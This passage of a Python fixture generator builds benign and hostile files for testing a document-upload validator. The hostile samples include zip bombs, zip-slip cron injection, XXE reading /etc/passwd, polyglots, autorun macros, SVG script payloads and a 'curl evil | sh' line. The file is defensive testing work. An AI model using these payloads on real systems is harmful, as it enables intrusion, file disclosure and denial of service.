#!/usr/bin/env python3
"""Generates docproc's document corpus: benign and hostile files in every
supported format, plus manifest.json with the verdict each must get.

Deterministic (no timestamps, no randomness), so regenerating gives the same
bytes. Usage: scripts/gen-fixtures.py [OUT_DIR]
"""
import io
import json
import os
import struct
import sys
import zipfile
import zlib

OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(
    os.path.dirname(__file__), "..", "rust", "crates", "engine", "tests", "corpus")
MANIFEST = []


def emit(name, data, declared, verdict, reason=None, filename=None, metadata=None, detected=None, note="", format=None):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    MANIFEST.append({k: v for k, v in {
        "file": name, "filename": filename or name, "declared_type": declared,
        "verdict": verdict, "reason": reason, "detected": detected, "format": format,
        "metadata": metadata or {}, "note": note}.items() if v not in (None, "")})


# ---------------------------------------------------------------- PDF
def pdf(objects, version="1.7", trailer_extra=b"", tail=b""):
    """objects: list of bytes bodies (object n = index + 1)."""
    out = bytearray(b"%PDF-" + version.encode() + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for o in offsets:
        out += b"%010d 00000 n \n" % o
    out += b"trailer\n<< /Size %d /Root 1 0 R " % (len(objects) + 1) + trailer_extra + b">>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out) + tail


def stream(dict_body, data, compress=True):
    if compress:
        data = zlib.compress(data, 9)
        dict_body += b" /Filter /FlateDecode"
    return b"<< " + dict_body + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def pages_pdf(n, info=True, version="1.7", count=None, extra_trailer=b"", tail=b""):
    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(n))
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % (n if count is None else count),
            b"<< /Title (Quarterly report) /Author (Ada Lovelace) /Producer (docproc fixtures) /CreationDate (D:20260101120000Z) >>"]
    for i in range(n):
        objs.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R >>" % (4 + n + i))
    for i in range(n):
        objs.append(stream(b"", b"BT /F1 12 Tf 72 712 Td (Page %d) Tj ET" % (i + 1)))
    return pdf(objs, version=version, trailer_extra=(b"/Info 3 0 R " if info else b"") + extra_trailer, tail=tail)


def objstm_pdf(page_dict=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>", inflate_to=None):
    inner = page_dict
    # The page is object 4, compressed inside the object stream (object 3).
    header = b"4 0 "
    content = header + inner if inflate_to is None else header + inner + b" " * inflate_to
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            stream(b"/Type /ObjStm /N 1 /First %d" % len(header), content)]
    return pdf(objs, version="1.5")


# ---------------------------------------------------------------- ZIP / office
FIXED = (2026, 1, 1, 0, 0, 0)


def zip_bytes(entries, compression=zipfile.ZIP_DEFLATED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data, *rest in entries:
            info = zipfile.ZipInfo(name, FIXED)
            info.compress_type = rest[0] if rest else compression
            z.writestr(info, data)
    return buf.getvalue()


CORE = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:title>%s</dc:title><dc:creator>Grace Hopper</dc:creator><dcterms:created xsi:type="dcterms:W3CDTF">2026-01-02T03:04:05Z</dcterms:created><dcterms:modified xsi:type="dcterms:W3CDTF">2026-01-03T03:04:05Z</dcterms:modified></cp:coreProperties>"""


def ooxml(kind, title, app_fields, extra=(), body=None, content_types=None):
    main = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}[kind]
    body = {"docx": b"<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>",
            "xlsx": b"<workbook xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><sheets><sheet name='Q1' sheetId='1'/><sheet name='Q2' sheetId='2'/></sheets></workbook>",
            "pptx": b"<p:presentation xmlns:p='http://schemas.openxmlformats.org/presentationml/2006/main'/>"}[kind] if body is None else body
    app = b"<Properties xmlns='http://schemas.openxmlformats.org/officeDocument/2006/extended-properties'>" + b"".join(
        b"<%s>%s</%s>" % (k, v, k) for k, v in app_fields) + b"</Properties>"
    types = b"<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>" if content_types is None else content_types
    return zip_bytes([("[Content_Types].xml", types),
                      ("_rels/.rels", b"<Relationships/>"), (main, body),
                      ("docProps/core.xml", CORE % title), ("docProps/app.xml", app), *extra])


def odf(mime, title, stats, content=None, extra=()):
    meta = (b"<office:document-meta xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0' xmlns:meta='urn:oasis:names:tc:opendocument:xmlns:meta:1.0' xmlns:dc='http://purl.org/dc/elements/1.1/'>"
            b"<office:meta><dc:title>" + title + b"</dc:title><meta:initial-creator>Alan Turing</meta:initial-creator><meta:creation-date>2026-02-03T04:05:06</meta:creation-date>"
            b"<meta:generator>docproc fixtures</meta:generator><meta:document-statistic " + stats + b"/></office:meta></office:document-meta>")
    if content is None:
        content = b"<office:document-content xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'/>"
    return zip_bytes([("mimetype", mime, zipfile.ZIP_STORED), ("content.xml", content),
                      ("meta.xml", meta), ("META-INF/manifest.xml", b"<manifest/>"), *extra])


ODF_CONTENT = (b"<office:document-content xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0' xmlns:text='urn:oasis:names:tc:opendocument:xmlns:text:1.0' "
               b"xmlns:script='urn:oasis:names:tc:opendocument:xmlns:script:1.0' xmlns:xlink='http://www.w3.org/1999/xlink'>%s</office:document-content>")
SVG_HEAD = b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="50">'


# ---------------------------------------------------------------- images
def png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xffffffff)


def png(w, h, extra=b"", rows=None):
    raw = rows if rows is not None else b"".join(b"\x00" + b"\x80\x40\x20" * w for _ in range(h))
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) + extra
            + png_chunk(b"IDAT", zlib.compress(raw)) + png_chunk(b"IEND", b""))


def tiff_ifd_le(entries, next_ifd=0):
    out = struct.pack("<H", len(entries))
    for tag, typ, count, value in entries:
        out += struct.pack("<HHI", tag, typ, count) + value
    return out + struct.pack("<I", next_ifd)


def exif_block():
    make = b"Docproc\x00"
    ifd_len = 2 + 2 * 12 + 4
    entries = [(0x010f, 2, len(make), struct.pack("<I", 8 + ifd_len)), (0x0112, 3, 1, struct.pack("<HH", 1, 0))]
    return b"II*\x00" + struct.pack("<I", 8) + tiff_ifd_le(entries) + make


def jpeg(w, h, app=b"", scan=b"\x12\x34\xff\x00\x56\xff\xd0\x78", eoi=True):
    seg = lambda m, d: b"\xff" + bytes([m]) + struct.pack(">H", len(d) + 2) + d
    out = b"\xff\xd8" + app + seg(0xe1, b"Exif\x00\x00" + exif_block())
    out += seg(0xdb, b"\x00" + bytes(range(1, 65)))
    out += seg(0xc0, struct.pack(">BHHB", 8, h, w, 3) + b"\x01\x22\x00\x02\x11\x01\x03\x11\x01")
    out += seg(0xc4, b"\x00" + b"\x01" + b"\x00" * 15 + b"\x00")
    out += seg(0xda, b"\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00") + scan
    return out + (b"\xff\xd9" if eoi else b"")


def gif(w, h, frames=2):
    out = b"GIF89a" + struct.pack("<HHBBB", w, h, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    for _ in range(frames):
        out += b"\x21\xf9\x04\x00\x0a\x00\x00\x00"  # graphic control extension
        out += b"\x2c" + struct.pack("<HHHHB", 0, 0, w, h, 0) + b"\x02\x02\x44\x01\x00"
    return out + b"\x3b"


def tiff(w, h, cut=False):
    pixels = b"\x7f" * (w * h)
    make = b"ScanCo\x00"
    n = 8
    ifd_at = 8
    ifd_len = 2 + n * 12 + 4
    make_at = ifd_at + ifd_len
    data_at = make_at + len(make)
    entries = [(256, 3, 1, struct.pack("<HH", w, 0)), (257, 3, 1, struct.pack("<HH", h, 0)),
               (258, 3, 1, struct.pack("<HH", 8, 0)), (259, 3, 1, struct.pack("<HH", 1, 0)),
               (262, 3, 1, struct.pack("<HH", 1, 0)), (271, 2, len(make), struct.pack("<I", make_at)),
               (273, 4, 1, struct.pack("<I", data_at)), (279, 4, 1, struct.pack("<I", len(pixels)))]
    out = b"II*\x00" + struct.pack("<I", ifd_at) + tiff_ifd_le(entries) + make + pixels
    return out[: len(out) - len(pixels) // 2] if cut else out


def webp_lossy(w, h):
    vp8 = b"\x10\x02\x00\x9d\x01\x2a" + struct.pack("<HH", w, h) + b"\x00" * 8
    chunk = b"VP8 " + struct.pack("<I", len(vp8)) + vp8
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def webp_lossless(w, h):
    bits = (w - 1) | ((h - 1) << 14) | (1 << 28)
    vp8l = b"\x2f" + struct.pack("<I", bits) + b"\x00" * 5
    chunk = b"VP8L" + struct.pack("<I", len(vp8l)) + vp8l
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def main():
    os.makedirs(OUT, exist_ok=True)
    for f in os.listdir(OUT):
        os.remove(os.path.join(OUT, f))
    P = "application/pdf"
    DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"

    # ------------------------------------------------------------ benign
    emit("one-page.pdf", pages_pdf(1), P, "ACCEPTED", metadata={"pages": 1, "version": "1.7", "title": "Quarterly report", "author": "Ada Lovelace", "encrypted": False, "linearized": False})
    emit("three-pages.pdf", pages_pdf(3, version="1.4"), P, "ACCEPTED", metadata={"pages": 3, "version": "1.4"})
    emit("object-stream.pdf", objstm_pdf(), P, "ACCEPTED", metadata={"pages": 1, "version": "1.5"})
    lin = pdf([b"<< /Linearized 1 /L 1000 /N 1 >>", b"<< /Type /Catalog /Pages 3 0 R >>", b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>", b"<< /Type /Page /Parent 3 0 R >>"])
    emit("linearized.pdf", lin.replace(b"/Root 1 0 R", b"/Root 2 0 R"), P, "ACCEPTED", metadata={"pages": 1, "linearized": True})
    emit("report.docx", ooxml("docx", b"Annual report", [(b"Pages", b"12"), (b"Words", b"3400"), (b"Application", b"Microsoft Office Word")]), DOCX, "ACCEPTED",
         metadata={"title": "Annual report", "author": "Grace Hopper", "pages": 12, "words": 3400, "created": "2026-01-02T03:04:05Z"})
    emit("budget.xlsx", ooxml("xlsx", b"Budget", [(b"Application", b"Microsoft Excel")]), XLSX, "ACCEPTED", metadata={"title": "Budget", "sheets": 2})
    emit("deck.pptx", ooxml("pptx", b"Roadmap", [(b"Slides", b"7")]), PPTX, "ACCEPTED", metadata={"title": "Roadmap", "slides": 7})
    emit("letter.odt", odf(b"application/vnd.oasis.opendocument.text", b"Letter", b"meta:page-count='2' meta:word-count='450'"), "application/vnd.oasis.opendocument.text", "ACCEPTED",
         metadata={"title": "Letter", "author": "Alan Turing", "pages": 2, "words": 450})
    emit("ledger.ods", odf(b"application/vnd.oasis.opendocument.spreadsheet", b"Ledger", b"meta:table-count='3'"), "application/vnd.oasis.opendocument.spreadsheet", "ACCEPTED", metadata={"title": "Ledger", "sheets": 3})
    emit("talk.odp", odf(b"application/vnd.oasis.opendocument.presentation", b"Talk", b"meta:object-count='4'"), "application/vnd.oasis.opendocument.presentation", "ACCEPTED", metadata={"title": "Talk"})
    emit("chart.png", png(16, 8), "image/png", "ACCEPTED", metadata={"width": 16, "height": 8, "bit_depth": 8})
    emit("exif.png", png(4, 4, extra=png_chunk(b"eXIf", exif_block())), "image/png", "ACCEPTED", metadata={"width": 4, "exif": {"make": "Docproc", "orientation": 1}})
    emit("photo.jpg", jpeg(640, 480), "image/jpeg", "ACCEPTED", metadata={"width": 640, "height": 480, "bit_depth": 8, "components": 3, "exif": {"make": "Docproc", "orientation": 1}})
    emit("anim.gif", gif(32, 16), "image/gif", "ACCEPTED", metadata={"width": 32, "height": 16, "frames": 2})
    emit("scan.tiff", tiff(8, 4), "image/tiff", "ACCEPTED", metadata={"width": 8, "height": 4, "bit_depth": 8, "pages": 1, "exif": {"make": "ScanCo"}})
    emit("lossy.webp", webp_lossy(300, 200), "image/webp", "ACCEPTED", metadata={"width": 300, "height": 200, "lossless": False})
    emit("lossless.webp", webp_lossless(64, 48), "image/webp", "ACCEPTED", metadata={"width": 64, "height": 48, "lossless": True})
    emit("notes.txt", "Meeting notes\nCafé at ten — bring the Größe chart.\n".encode(), "text/plain", "ACCEPTED", metadata={"encoding": "utf-8", "lines": 2})
    emit("legacy.txt", "Les élèves étaient très contents de la leçon.\nÇa va très bien, merci.\n".encode("windows-1252"), "text/plain", "ACCEPTED", metadata={"encoding": "windows-1252", "lines": 2})
    emit("utf16.txt", "\ufeffline one\nline two\n".encode("utf-16-le"), "text/plain", "ACCEPTED", metadata={"encoding": "utf-16le"})
    emit("people.csv", b'name,age,city\n"Lovelace, Ada",36,London\nHopper,85,"New\nYork"\n', "text/csv", "ACCEPTED", metadata={"columns": 3, "header": ["name", "age", "city"], "lines": 4})
    emit("config.json", b'{"service": "docproc", "limits": [1, 2, 3], "nested": {"ok": true}}\n', "application/json", "ACCEPTED", metadata={"lines": 1})
    events = b'{"event": "upload", "id": 1}\n{"event": "scan", "id": 2, "tags": ["a"]}\n\n{"event": "done", "id": 3}\n'
    emit("events.jsonl", events, "application/jsonl", "ACCEPTED", format="jsonl", metadata={"lines": 4, "records": 3}, note="a blank line is skipped")
    emit("scalars.jsonl", b'"first"\n2\nnull\n', "application/jsonl", "ACCEPTED", format="jsonl", metadata={"records": 3}, note="any JSON value may be a record")
    emit("one-record.ndjson", b'{"event": "upload", "id": 1}\n', "application/x-ndjson", "ACCEPTED", format="jsonl", metadata={"records": 1}, note="one record is JSON Lines when declared so")
    emit("feed.xml", b'<?xml version="1.0"?>\n<feed><entry id="1">a &amp; b</entry><entry id="2"/></feed>\n', "application/xml", "ACCEPTED", metadata={"elements": 3})
    emit("diagram.svg", SVG_HEAD + b'<defs><linearGradient id="g"><stop offset="0" stop-color="#08f"/></linearGradient></defs>'
         b'<a xlink:href="#box"><rect id="box" width="100" height="50" fill="url(#g)"/></a><text x="10" y="30">Only data</text></svg>\n',
         "application/xml", "ACCEPTED", filename="diagram.xml", metadata={"elements": 7}, note="SVG without active content is accepted as XML")
    emit("macro-free.odt", odf(b"application/vnd.oasis.opendocument.text", b"Plain", b"meta:page-count='1'", content=ODF_CONTENT % b"<office:scripts/>"),
         "application/vnd.oasis.opendocument.text", "ACCEPTED", metadata={"title": "Plain", "pages": 1}, note="LibreOffice writes an empty office:scripts; it is not a script")

    # ------------------------------------------------------------ hostile or broken
    emit("empty.pdf", b"", P, "REJECTED", "empty")
    emit("zip-bomb.docx", ooxml("docx", b"Bomb", [], extra=[("word/media/zeros.bin", b"\x00" * (64 << 20))]), DOCX, "REJECTED", "zip_compression_ratio", note="64 MiB of zeros in ~64 KiB")
    big = bytearray(ooxml("docx", b"Liar", []))
    # Declare 3 GiB for one entry in the central directory (and keep the ratio check out of the way by lying in both sizes).
    cd = big.index(b"PK\x01\x02")
    struct.pack_into("<II", big, cd + 20, 0xC0000000, 0xC0000000)
    emit("zip-declared-huge.docx", bytes(big), DOCX, "REJECTED", "zip_too_large")
    emit("zip-slip.docx", ooxml("docx", b"Slip", [], extra=[("../../etc/cron.d/evil", b"* * * * * root sh")]), DOCX, "REJECTED", "zip_unsafe_path")
    emit("zip-absolute.docx", ooxml("docx", b"Abs", [], extra=[("/etc/passwd", b"root")]), DOCX, "REJECTED", "zip_unsafe_path")
    lie = bytearray(ooxml("docx", b"Size lie", []))
    # Shrink word/document.xml's declared size in both headers: it inflates past it.
    for sig in (b"PK\x03\x04", b"PK\x01\x02"):
        start = 0
        while (i := lie.find(sig, start)) >= 0:
            start = i + 4
            name_at = i + (30 if sig == b"PK\x03\x04" else 46)
            nlen = struct.unpack_from("<H", lie, i + (26 if sig == b"PK\x03\x04" else 28))[0]
            if bytes(lie[name_at:name_at + nlen]) == b"word/document.xml":
                struct.pack_into("<I", lie, i + (22 if sig == b"PK\x03\x04" else 24), 10)
    emit("zip-size-lie.docx", bytes(lie), DOCX, "REJECTED", "zip_size_mismatch")
    many = bytearray(ooxml("docx", b"Many", []))
    eocd = many.rindex(b"PK\x05\x06")
    struct.pack_into("<HH", many, eocd + 8, 20000, 20000)
    emit("zip-too-many-entries.docx", bytes(many), DOCX, "REJECTED", "zip_too_many_entries")
    # Overlapping entries: entry B's local header sits inside entry A's stored data.
    inner_name = b"word/document.xml"
    inner_data = b"<w:document/>"
    inner_lh = struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 0, 0, 0, zlib.crc32(inner_data), len(inner_data), len(inner_data), len(inner_name), 0) + inner_name + inner_data
    outer = zip_bytes([("[Content_Types].xml", b"<Types/>", zipfile.ZIP_STORED), ("docProps/wrapper.bin", inner_lh, zipfile.ZIP_STORED)])
    ov = bytearray(outer)
    wrapper_lh = ov.index(b"PK\x03\x04", 1)
    inner_at = wrapper_lh + 30 + len("docProps/wrapper.bin")
    cd_at = ov.index(b"PK\x01\x02")
    eocd = ov.rindex(b"PK\x05\x06")
    extra_cd = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, 0, 0, 0, zlib.crc32(inner_data), len(inner_data), len(inner_data), len(inner_name), 0, 0, 0, 0, 0, inner_at) + inner_name
    n_entries, cd_size = struct.unpack_from("<H", ov, eocd + 10)[0], struct.unpack_from("<I", ov, eocd + 12)[0]
    ov = ov[:eocd] + extra_cd + ov[eocd:]
    new_eocd = eocd + len(extra_cd)
    struct.pack_into("<HHI", ov, new_eocd + 8, n_entries + 1, n_entries + 1, cd_size + len(extra_cd))
    assert struct.unpack_from("<I", ov, new_eocd + 16)[0] == cd_at
    emit("zip-overlapping.docx", bytes(ov), DOCX, "REJECTED", "zip_overlapping_entries")
    emit("plain-archive.zip", zip_bytes([("a.txt", b"hello"), ("b.txt", b"world")]), DOCX, "REJECTED", "unsupported", filename="plain-archive.docx", detected="zip archive")
    emit("app.jar.docx", zip_bytes([("META-INF/MANIFEST.MF", b"Main-Class: Evil\n"), ("Evil.class", b"\xca\xfe\xba\xbe")]), DOCX, "REJECTED", "unsupported", detected="java archive")
    enc = bytearray(ooxml("docx", b"Enc", []))
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = enc.find(sig)
        struct.pack_into("<H", enc, i + off, 1)
    emit("zip-encrypted.docx", bytes(enc), DOCX, "REJECTED", "encrypted")
    emit("pdf-stream-bomb.pdf", pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                                     b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>", stream(b"", b"\x00" * (100 << 20))]), P, "REJECTED", "pdf_stream_too_large", note="100 MiB of zeros")
    emit("pdf-objstm-bomb.pdf", objstm_pdf(inflate_to=100 << 20), P, "REJECTED", "pdf_stream_too_large")
    emit("pdf-page-count-lie.pdf", pages_pdf(1, count=2_000_000_000), P, "REJECTED", "pdf_page_count_mismatch")
    emit("pdf-encrypted.pdf", pages_pdf(1, extra_trailer=b"/Encrypt << /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >> "), P, "REJECTED", "encrypted")
    whole = pages_pdf(3)
    emit("pdf-truncated.pdf", whole[: len(whole) // 2], P, "REJECTED", "truncated")
    emit("pdf-trailing.pdf", pages_pdf(1, tail=b"MZ\x90\x00 appended payload"), P, "REJECTED", "trailing_data")
    emit("pdf-leading.pdf", b"<html><script>alert(1)</script>\n" + pages_pdf(1), P, "REJECTED", "leading_data")
    deep = b"<< /Type /Catalog /Pages 2 0 R /Junk " + b"[" * 5000 + b"]" * 5000 + b" >>"
    emit("pdf-deep-nesting.pdf", pdf([deep, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 2 0 R >>"]), P, "REJECTED", "too_complex")
    emit("renamed-exe.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"This program cannot be run in DOS mode", P, "REJECTED", "unsupported", detected="windows executable")
    emit("elf.png", b"\x7fELF\x02\x01\x01" + b"\x00" * 57, "image/png", "REJECTED", "unsupported", detected="elf executable")
    emit("script.txt", b"#!/bin/sh\ncurl evil | sh\n", "text/plain", "REJECTED", "unsupported", detected="script")
    emit("page.txt", b"<!DOCTYPE html><html><body onload=alert(1)></body></html>", "text/plain", "REJECTED", "unsupported", detected="html")
    emit("legacy.doc.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504, DOCX, "REJECTED", "unsupported")
    # PDF + ZIP polyglot: the ZIP's comment swallows the PDF's final %%EOF so both parse.
    pdf_part = pages_pdf(1)
    zip_part = bytearray(zip_bytes([("payload.js", b"alert(1)")]))
    body = pdf_part + bytes(zip_part)
    # Rebase the zip's offsets and give it a comment that ends with a PDF tail.
    zoff = len(pdf_part)
    comment = b"\nstartxref\n0\n%%EOF\n"
    z = bytearray(zip_part)
    cd = z.index(b"PK\x01\x02")
    struct.pack_into("<I", z, cd + 42, zoff)
    e = z.rindex(b"PK\x05\x06")
    struct.pack_into("<I", z, e + 16, zoff + cd)
    struct.pack_into("<H", z, e + 20, len(comment))
    emit("pdf-zip-polyglot.pdf", pdf_part + bytes(z) + comment, P, "REJECTED", "polyglot")
    emit("jpeg-pdf-polyglot.jpg", jpeg(10, 10, app=b"\xff\xfe\x00\x12%PDF-1.7 1 0 obj"), "image/jpeg", "REJECTED", "polyglot")
    emit("png-appended-zip.png", png(2, 2) + zip_bytes([("x.txt", b"x")]), "image/png", "REJECTED", "trailing_data")
    good_png = png(32, 32)
    emit("png-truncated.png", good_png[: len(good_png) - 20], "image/png", "REJECTED", "truncated")
    bad = bytearray(png(4, 4))
    bad[40] ^= 0xff
    emit("png-bad-crc.png", bytes(bad), "image/png", "REJECTED", "malformed")
    emit("png-pixel-bomb.png", png(100000, 100000, rows=b"\x00"), "image/png", "REJECTED", "pixel_limit", note="10 gigapixels declared, never decoded")
    emit("jpeg-pixel-bomb.jpg", jpeg(65500, 65500), "image/jpeg", "REJECTED", "pixel_limit")
    emit("jpeg-truncated.jpg", jpeg(100, 100, eoi=False), "image/jpeg", "REJECTED", "truncated")
    g = gif(8, 8)
    emit("gif-truncated.gif", g[:-6], "image/gif", "REJECTED", "truncated")
    emit("tiff-truncated.tiff", tiff(64, 64, cut=True), "image/tiff", "REJECTED", "truncated")
    emit("billion-laughs.xml", b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]>\n<lolz>&lol2;</lolz>\n', "application/xml", "REJECTED", "xml_doctype")
    emit("xxe.xml", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', "application/xml", "REJECTED", "xml_doctype")
    emit("broken.json", b'{"a": [1, 2,, 3]}', "application/json", "REJECTED", "malformed")
    emit("split-record.jsonl", b'{"id": 1}\n{"id":\n 2}\n', "application/jsonl", "REJECTED", "malformed", note="a JSON Lines value spans two lines")
    emit("pretty.jsonl", b'{\n  "id": 1\n}\n', "application/jsonl", "REJECTED", "type_mismatch", note="one pretty-printed JSON value is not JSON Lines")
    emit("records.json", b'{"id": 1}\n{"id": 2}\n', "application/json", "REJECTED", "type_mismatch", note="JSON Lines is not one JSON value")
    emit("deep.json", b"[" * 10000 + b"]" * 10000, "application/json", "REJECTED", "malformed", note="serde_json's recursion limit")
    emit("ragged.csv", b"a,b,c\n1,2,3\n4,5\n", "text/csv", "REJECTED", "malformed")
    emit("nul-bytes.txt", b"hello\x00world\x00" * 10, "text/plain", "REJECTED", "unsupported", detected="binary")
    emit("pdf-declared-png.png", pages_pdf(1), "image/png", "REJECTED", "type_mismatch", detected="pdf")
    emit("png-named-jpg.jpg", png(2, 2), "image/jpeg", "REJECTED", "type_mismatch", filename="png-named-jpg.jpg", detected="png")
    emit("docx-declared-pdf.pdf", ooxml("docx", b"x", []), P, "REJECTED", "type_mismatch", detected="docx")
    # XML rules inside containers: a DOCTYPE in any part, active content in any part.
    ODT = "application/vnd.oasis.opendocument.text"
    emit("docx-doctype.docx", ooxml("docx", b"XXE", [], body=b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
         b"<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"),
         DOCX, "REJECTED", "xml_doctype", detected="docx", note="external entity in word/document.xml")
    emit("odt-doctype.odt", odf(b"application/vnd.oasis.opendocument.text", b"Laughs", b"", content=b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
         + ODF_CONTENT % b"<office:body><office:text><text:p>&lol2;</text:p></office:text></office:body>"),
         ODT, "REJECTED", "xml_doctype", detected="odt", note="entity declarations in content.xml")
    emit("docx-vba.docx", ooxml("docx", b"Macro", [], extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)]),
         DOCX, "REJECTED", "active_content", detected="docx", note="VBA macro project inside a .docx")
    emit("docx-macro-content-type.docx", ooxml("docx", b"Macro", [], content_types=b"<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>"
         b"<Override PartName='/word/document.xml' ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"),
         DOCX, "REJECTED", "active_content", detected="docx", note="macro-enabled main part declared in [Content_Types].xml")
    emit("odt-macro.odt", odf(b"application/vnd.oasis.opendocument.text", b"Autorun", b"", content=ODF_CONTENT % (
         b"<office:scripts><office:event-listeners><script:event-listener script:language='ooo:script' script:event-name='dom:load' "
         b"xlink:href='vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document'/></office:event-listeners></office:scripts>")),
         ODT, "REJECTED", "active_content", detected="odt", note="a macro bound to the document's load event")
    basic = [("Basic/script-lc.xml", b"<library:libraries xmlns:library='http://openoffice.org/2000/library'/>"),
             ("Basic/Standard/script-lb.xml", b"<library:library xmlns:library='http://openoffice.org/2000/library' library:name='Standard'/>"),
             ("Basic/Standard/Module1.xml", b"<m:module xmlns:m='http://openoffice.org/2000/script' m:name='Module1' m:language='StarBasic'>"
              b"Sub Main\n  Shell(&quot;calc&quot;)\nEnd Sub</m:module>")]
    emit("odt-basic-module.odt", odf(b"application/vnd.oasis.opendocument.text", b"Module", b"", extra=basic),
         ODT, "REJECTED", "active_content", detected="odt", note="a StarBasic module stored in the package, not bound to any event")
    emit("ods-python-script.ods", odf(b"application/vnd.oasis.opendocument.spreadsheet", b"Script", b"",
         extra=[("Scripts/python/report.py", b"import os\nos.system('calc')\n")]),
         "application/vnd.oasis.opendocument.spreadsheet", "REJECTED", "active_content", detected="ods", note="a Python script stored in the package")
    emit("docx-activex.docx", ooxml("docx", b"Control", [], extra=[
         ("word/activeX/activeX1.xml", b"<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX' ax:classid='{8BD21D40-EC42-11CE-9E0D-00AA006002F3}' ax:persistence='persistStorage'/>"),
         ("word/activeX/activeX1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)]),
         DOCX, "REJECTED", "active_content", detected="docx", note="an ActiveX control without its content type declared")
    emit("svg-script.svg", SVG_HEAD + b"<script>alert(document.domain)</script></svg>", "image/svg+xml", "REJECTED", "active_content", detected="xml")
    emit("svg-onload.svg", SVG_HEAD + b'<rect width="10" height="10" onload="alert(1)"/></svg>', "application/xml", "REJECTED", "active_content",
         filename="svg-onload.xml", detected="xml", note="accepted as XML before active-content checks")
    emit("svg-javascript-href.svg", SVG_HEAD + b'<a xlink:href=" java&#x09;script:alert(1)"><text>click</text></a></svg>', "application/xml", "REJECTED", "active_content",
         filename="svg-javascript-href.xml", detected="xml", note="a script URL hidden behind a space and an escaped tab")
    emit("svg-foreign-object.svg", SVG_HEAD + b'<foreignObject width="100" height="100"><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject></svg>',
         "application/xml", "REJECTED", "active_content", filename="svg-foreign-object.xml", detected="xml")
    emit("xhtml-script.xml", b'<?xml version="1.0"?><page xmlns:h="http://www.w3.org/1999/xhtml"><h:img src="x" h:onerror="alert(1)"/></page>',
